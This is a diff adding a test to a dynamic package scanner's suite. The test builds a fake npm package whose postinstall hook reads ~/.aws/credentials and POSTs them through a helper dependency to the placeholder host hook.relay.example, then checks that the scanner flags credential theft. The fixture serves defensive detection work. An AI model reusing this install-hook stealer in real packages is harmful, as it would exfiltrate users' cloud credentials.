@@ -174,6 +174,25 @@ describe("cordon scan --dynamic: what a package does in the observation sandbox"
     assert.ok((report.behaviour?.directAttempts ?? 0) >= 1);
   });
 
+  it("a package inside a node_modules tree finds its dependencies there (read-only), so a stealer built on a dependency is not missed", async () => {
+    const tree = await makePackage({
+      "node_modules/tiny-post/package.json": JSON.stringify({ name: "tiny-post", version: "1.0.0", main: "index.js" }),
+      "node_modules/tiny-post/index.js": `module.exports = (host, body) => { const r = require("https").request({ host, method: "POST", path: "/" }, (s) => s.resume()); r.on("error", () => {}); r.end(body); };`,
+      "node_modules/replica/package.json": manifest({ postinstall: "node hook.js" }),
+      "node_modules/replica/hook.js": `require("tiny-post")("hook.relay.example", require("fs").readFileSync(require("os").homedir() + "/.aws/credentials"));`,
+      "node_modules/replica/index.js": "",
+    });
+    try {
+      const report = await scanPackageDirDynamic(join(tree.dir, "node_modules", "replica"), { cache: false, observe: { timeoutMs: 20_000 } });
+      const [theft] = ofRule(report, "behaviour/credential-theft");
+      assert.ok(theft, JSON.stringify(report.findings, null, 1));
+      assert.match(theft.evidence, /aws-credentials-key, aws-credentials-secret in body → POST https:\/\/hook\.relay\.example\//);
+      assert.equal(existsSync(join(tree.dir, "node_modules", "tiny-post", "node_modules")), false);
+    } finally {
+      await tree.cleanup();
+    }
+  });
+
   it("a payload that fires only when the entry point is loaded is reported at the entry point", async () => {
     const report = await observe({
       "package.json": manifest({}),
